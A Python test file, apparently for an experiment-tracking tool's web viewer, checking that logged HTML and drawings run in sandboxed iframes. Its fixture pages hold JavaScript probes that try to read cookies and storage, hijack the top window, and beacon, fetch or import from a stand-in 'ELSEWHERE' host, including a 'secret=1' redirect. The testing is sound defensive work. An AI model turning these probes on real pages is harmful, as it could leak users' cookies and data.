"""Pages with scripts and drawings that a run has logged: scripts run when asked for, and reach nothing."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

import epochal
from epochal.media import Html
from tests.needs import need

need("starlette")
need("playwright")

from ..conftest import Served  # noqa: E402
from ..detail_runs import calm, figure  # noqa: E402
from .charts_page import wait_until  # noqa: E402
from .pages import module  # noqa: E402

#: Tries everything, and writes what came of it into its own page.
CURIOUS = """<h1>page</h1><pre id="told"></pre><script>
const told = {ran: true};
const attempt = async (name, work) => {
  try { told[name] = String(await work()); } catch (error) { told[name] = "refused"; }
};
const picture = (url) =>
  new Promise((done, failed) => Object.assign(new Image(), {onload: done, onerror: failed, src: url}));
const opened = (one, name) => new Promise((done, failed) => Object.assign(one, {[name]: done, onerror: failed}));
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.title);
  await attempt("top", () => { top.location = "ELSEWHERE/top"; return "gone"; });
  await attempt("api", () => fetch("/api/server").then((answer) => answer.text()));
  await attempt("socket", () => opened(new WebSocket("ELSEWHERE/socket".replace("http", "ws")), "onopen"));
  await attempt("fetch", () => fetch("ELSEWHERE/fetch", {mode: "no-cors"}));
  await attempt("beacon", () => navigator.sendBeacon("ELSEWHERE/beacon", "x") && "sent");
  await attempt("picture", () => picture("ELSEWHERE/picture"));
  await attempt("own picture", () => picture("/static/x/icon.svg"));
  await attempt("script", () => import("ELSEWHERE/script.js"));
  await attempt("worker", () => opened(new Worker("data:text/javascript,postMessage(1)"), "onmessage"));
  await attempt("popup", () => { if (!open("ELSEWHERE/popup")) throw new Error(); return "open"; });
  document.getElementById("told").textContent = JSON.stringify(told);
})();
</script>"""
WANDERS = """<script>location = "ELSEWHERE/wander?secret=1";</script>"""
EXPECTED = ("Content Security Policy", "Blocked script execution", "sandbox", "Refused to", "Unsafe attempt",
            "Failed to load resource", "WebSocket", "Failed to navigate", "Not allowed", "violates")  # fmt: skip


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Return another server's address, and what it was asked for."""
    asked: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join(20)
    server.server_close()


@pytest.fixture
def visit(
    root: Path,
    serve: Callable[..., Served],
    open_page: Callable[..., Any],
    elsewhere: tuple[str, list[str]],
    monkeypatch: pytest.MonkeyPatch,
) -> Callable[[str], Any]:
    calm(monkeypatch)
    place, _ = elsewhere
    with epochal.init("p", id="run", dir=root) as run:
        run.log(
            {"curious": Html(CURIOUS.replace("ELSEWHERE", place)), "wanders": Html(WANDERS.replace("ELSEWHERE", place))}
        )
        run.log({"drawn": figure()})
    served = serve()

    def visited(media: str) -> Any:
        link = served.link.replace("/?", "/run/p/run/media?")
        return open_page(f"{link}&media={media}", expected=EXPECTED)

    return visited


def test_scripts_run_when_asked_for_and_reach_nothing(
    visit: Callable[[str], Any], elsewhere: tuple[str, list[str]]
) -> None:
    page = visit("curious")
    frame = page.frame_locator(".run-frame")
    frame.locator("h1").wait_for()
    assert page.locator(".run-frame").get_attribute("sandbox") == ""
    assert frame.locator("#told").inner_text() == ""
    page.get_by_role("button", name="Run its scripts").click()
    frame.locator("#told", has_text="popup").wait_for()
    assert page.locator(".run-frame").get_attribute("sandbox") == "allow-scripts"
    (shown,) = [one for one in page.frames if "scripts=1" in one.url]
    assert shown.evaluate("self.origin") == "null"
    told = shown.evaluate("JSON.parse(document.getElementById('told').textContent)")
    assert told.pop("ran") == "true" or told["cookie"]
    assert set(told.values()) - {"refused", "sent", "false", "gone"} == set(), told
    assert elsewhere[1] == []
    page.get_by_role("button", name="Stop its scripts").click()
    frame.locator("h1").wait_for()
    assert frame.locator("#told").inner_text() == ""


def test_a_page_whose_script_goes_elsewhere_does_not_get_there(
    visit: Callable[[str], Any], elsewhere: tuple[str, list[str]]
) -> None:
    page = visit("wanders")
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.get_by_role("button", name="Run its scripts").click()
    wait_until(lambda: page.evaluate("1") and any("frame-src" in text for text in said))
    assert elsewhere[1] == []


def test_a_drawing_stands_in_a_frame_that_can_do_nothing(visit: Callable[[str], Any]) -> None:
    page = visit("drawn")
    frame = page.locator(".run-drawing iframe")
    frame.wait_for()
    assert frame.get_attribute("sandbox") == ""
    wait_until(lambda: page.evaluate("1") and any("kind=figure" in one.url for one in page.frames))
    assert frame.bounding_box()["width"] == pytest.approx(640, abs=1)


def test_a_drawing_is_as_large_as_it_says(visit: Callable[[str], Any]) -> None:
    page = visit("drawn")
    size = f"import({module(page, 'run/drawing.js')!r}).then((drawing) => drawing.sizeOf(text))"
    for text, expected in {
        '<?xml version="1.0"?><svg width="360pt" height="72pt" style="x: y">': [480, 96],
        "<svg viewBox='0 0 300 150' width='100%'>": [300, 150],
        "<p>no drawing</p>": [640, 480],
        '<svg width="1e9" height="0">': [640, 480],
    }.items():
        assert page.evaluate(f"(text) => {size}", text) == expected
